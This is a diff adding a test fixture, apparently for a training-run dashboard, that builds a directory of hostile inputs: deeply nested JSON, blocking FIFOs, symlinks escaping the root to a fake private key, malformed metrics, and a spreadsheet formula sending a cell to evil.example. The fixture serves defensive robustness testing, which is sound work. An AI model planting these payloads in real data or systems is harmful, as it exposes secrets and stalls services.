@@ -159,3 +159,62 @@ def build_runs(root: Path) -> Path:
     report.parent.mkdir(parents=True)
     report.write_text(f"# Evaluation\n\nwin rate 0.61\n{XSS_IMG}\n", encoding="utf-8")
     return root
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "click")'
+SECRET = "-----BEGIN PRIVATE KEY----- not for the dashboard"
+DEEP = 100_000  # nesting levels: json.loads raises RecursionError on this
+
+
+def _nested(depth: int) -> str:
+    return '{"a": ' * depth + "1" + "}" * depth
+
+
+def build_hostile_runs(root: Path, outside: Path) -> Path:
+    """`build_runs`, plus what a hostile or careless writer can leave in a runs root (and `outside` it):
+
+    sft/nested (status.json nested 100,000 deep), sft/fifo (status.json is a FIFO), reward/folder (folders named
+    metrics.jsonl and rankings.jsonl, a FIFO samples.jsonl), ppo/linked (a link to a run directory outside the root), sft/deep/stage (a manifest nested
+    100,000 deep), sft/badmetrics (NaN, a repeated key, float and boolean steps), eval/leak/report.md (the newest
+    report, a link to a private key outside the root), and a sample completion that is a spreadsheet formula.
+    """
+    import os
+
+    build_runs(root)
+    outside.mkdir(parents=True, exist_ok=True)
+    secret = outside / "id_rsa"
+    secret.write_text(SECRET, encoding="utf-8")
+    (root / "sft" / "nested").mkdir(parents=True)
+    (root / "sft" / "nested" / "status.json").write_text(_nested(DEEP), encoding="utf-8")
+    write_jsonl(root / "sft" / "fifo" / "metrics.jsonl", [{"step": 1, "sft/loss": 3.0}])
+    os.mkfifo(root / "sft" / "fifo" / "status.json")  # a reader that open()s it waits for a writer forever
+    write_json(root / "reward" / "folder" / "status.json", status("reward", "folder", "finished", 1))
+    (root / "reward" / "folder" / "metrics.jsonl").mkdir()
+    (root / "reward" / "folder" / "rankings.jsonl").mkdir()
+    os.mkfifo(root / "reward" / "folder" / "samples.jsonl")
+    elsewhere = outside / "run"
+    write_json(elsewhere / "status.json", status("ppo", "linked", "finished", 7, parent=str(secret)))
+    write_jsonl(elsewhere / "metrics.jsonl", [{"step": 1, "ppo/kl": 0.5}])
+    os.symlink(elsewhere, root / "ppo" / "linked")
+    deep = root / "sft" / "deep" / "stage" / "manifest.json"
+    deep.parent.mkdir(parents=True)
+    deep.write_text('{"stage": "sft", "extra": ' + _nested(DEEP) + "}", encoding="utf-8")
+    bad = root / "sft" / "badmetrics"
+    write_json(bad / "status.json", status("sft", "badmetrics", "finished", 4))
+    lines = [
+        '{"step": 1, "sft/loss": 1.0}',
+        '{"step": 2, "sft/loss": NaN}',
+        '{"step": 3, "sft/loss": 0.5, "sft/loss": 0.4}',
+        '{"step": 3.5, "sft/loss": 0.3}',
+        '{"step": true, "sft/loss": 0.2}',
+        '{"step": 4, "sft/loss": 0.1}',
+    ]
+    (bad / "metrics.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
+    write_jsonl(
+        bad / "samples.jsonl", [{"step": 4, "prompt": "-1 + 2 =", "completion": FORMULA, "mode": "greedy"}]
+    )
+    leak = root / "eval" / "leak" / "report.md"
+    leak.parent.mkdir(parents=True)
+    os.symlink(secret, leak)
+    os.utime(leak, follow_symlinks=False)
+    return root
